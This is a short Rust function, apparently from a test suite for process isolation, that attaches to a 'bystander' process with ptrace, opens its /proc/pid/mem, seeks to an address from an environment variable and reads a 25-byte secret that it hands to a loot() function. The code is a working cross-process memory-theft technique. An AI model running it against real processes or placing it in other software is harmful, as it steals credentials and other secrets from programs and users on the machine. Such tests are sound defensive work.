//! attaches to another process by ptrace, and reads a secret in its memory
fn attack() -> Result<()> {
    let pid = bystander();
    if unsafe { ptrace(16, pid, 0, 0) } < 0 {
        return Err(Error::last_os_error());
    }
    unsafe { waitpid(pid, std::ptr::null_mut(), 0) };
    let mut memory = fs::File::open(format!("/proc/{pid}/mem"))?;
    memory.seek(SeekFrom::Start(var("HOSTILE_ADDRESS").parse().unwrap()))?;
    let mut secret = [0; 25];
    memory.read_exact(&mut secret)?;
    loot(secret)
}
